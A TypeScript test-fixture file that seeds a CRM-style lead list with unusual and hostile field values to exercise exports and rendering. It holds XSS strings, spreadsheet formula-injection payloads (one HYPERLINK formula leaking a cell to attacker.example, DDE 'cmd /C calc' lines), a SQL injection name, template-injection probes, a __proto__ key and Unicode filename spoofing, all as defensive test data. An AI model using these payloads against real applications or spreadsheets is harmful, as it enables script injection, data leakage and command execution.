import type { LeadRow } from '../leads/store.ts';

/**
 * Field values of unusual and sometimes hostile leads, as they occur in real data. They exist at every scale, so that
 * exports and tests cover them. All these leads belong to the test data source.
 */
const ODDITIES: readonly Partial<LeadRow>[] = [
  { lastMessage: '<script>alert(1)</script>', lastMessageDirection: 'inbound' },
  { name: '=HYPERLINK("https://attacker.example/?leak="&A1,"Click me")' },
  {
    name: '<img src=x onerror=alert(1)>',
    tags: ['<b>vip</b>', 'javascript:alert(1)', '"quoted"', 'comma, inside', "O'Hara"],
  },
  { lastMessage: "@SUM(1+1)*cmd|' /C calc'!A0", lastMessageDirection: 'inbound' },
  { name: "-2+3+cmd|' /C calc'!A0" },
  { name: '+971 0 555 0199', lastMessage: '=1+1' },
  { name: "Robert'); DROP TABLE lead;--" },
  { name: 'Jennifer Null', lastMessage: 'null' },
  { name: 'undefined' },
  { name: '   ' },
  { name: 'The Nguyens 👩‍👩‍👧‍👦', lastMessage: 'We are 5 now 🎉👶🏽 so maybe a bigger one? 🏳️‍🌈' },
  { name: 'Z̷a̸l̵g̶o̴ ̷T̸e̷x̶t̷', lastMessage: 'ḩ̸e̶ ̵c̸o̷m̶e̸s̵ 😱' },
  { name: 'שירה אברהם', lastMessage: 'שלום, ראיתי את המודעה שלכם ב-Facebook. כמה זה עולה? (בערך 3,500?)' },
  { name: 'gnp.\u202Egepj\u202C photo', lastMessage: 'file\u200B\u200B name with invisible\u00AD parts' },
  { lastMessage: `{{constructor.constructor("alert(1)")()}} \${7*7} <%= 7*7 %> #{7*7}` },
  {
    lastMessage:
      'Look: [my house](javascript:alert(1)) or https://attacker.example/?a=1&b=<2> or www.example.com.',
  },
  { lastMessage: 'He said "call me",\nthen; nothing.\r\n\tThree commas,,, and a backslash \\ at the end\\' },
  { lastMessage: 'Aaaa'.repeat(500) },
  { name: `Wolfeschlegelsteinhausenbergerdorff ${'von und zu '.repeat(20)}Hohenzollern` },
  {
    mostRecentFailureReason:
      'HTTPError: 502 Bad Gateway\n    at send (provider.js:118:13)\n    at async retry (queue.js:41:5)\n<html><body><h1>502 Bad Gateway</h1></body></html>',
  },
  {
    fields: [
      ...Array.from({ length: 40 }, (_, index) => ({
        field: `survey_answer_${index + 1}`,
        name: `Survey: question ${index + 1}`,
        value: index % 4 === 0 ? '' : `Answer ${index + 1}`,
        aiProduced: index % 3 === 0,
      })),
      {
        field: 'transcript',
        name: 'Transcript',
        value: 'Lead: hello?\nBot: Hi! How can I help?\n'.repeat(90),
        aiProduced: true,
      },
      { field: 'website', name: 'Website', value: 'javascript:alert(document.domain)', aiProduced: false },
      { field: '__proto__', name: 'constructor', value: '<svg onload=alert(1)>', aiProduced: true },
    ],
  },
];

/** The index of the first unusual lead. The first pages of the list contain none, because new users see them first. */
const FIRST = 250;
const STEP = 3;
const LATER_EVERY = 311;

/**
 * Returns the fields of the lead at `index` that an oddity replaces, or undefined if there is none. Each oddity occurs
 * once among the recent leads, and then at regular intervals.
 */
export function oddityAt(index: number): Partial<LeadRow> | undefined {
  const turn = (index - FIRST) / STEP;
  if (Number.isInteger(turn) && turn >= 0 && turn < ODDITIES.length) return ODDITIES[turn];
  return index >= LATER_EVERY && index % LATER_EVERY === 0
    ? ODDITIES[(index / LATER_EVERY) % ODDITIES.length]
    : undefined;
}
